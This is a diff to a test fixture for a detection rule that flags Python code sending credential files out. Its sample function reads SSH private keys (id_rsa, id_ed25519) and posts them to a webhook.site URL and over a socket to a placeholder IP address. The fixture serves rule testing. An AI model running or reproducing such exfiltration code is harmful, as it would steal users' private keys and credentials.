@@ -1,6 +1,6 @@
 """Fixture for py-exfil-credential-files.
 
-RULEID: id_rsa, ~/.aws/credentials and Chrome Login Data contents posted or sent over a socket.
+RULEID: id_rsa, id_ed25519 and Chrome Login Data contents posted or sent over a socket.
 OK: reading ~/.ssh/config to pick a host (not sent); posting a project file.
 """
 import os
@@ -14,7 +14,7 @@ def steal():
     key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
     # ruleid: py-exfil-credential-files
     requests.post("https://webhook.site/0000-1111", data={"k": key})
-    aws = Path.home() / ".aws" / "credentials"
+    aws = Path.home() / ".ssh" / "id_ed25519"
     creds = Path(aws).read_text()
     s = socket.create_connection(("198.51.100.9", 443))
     # ruleid: py-exfil-credential-files
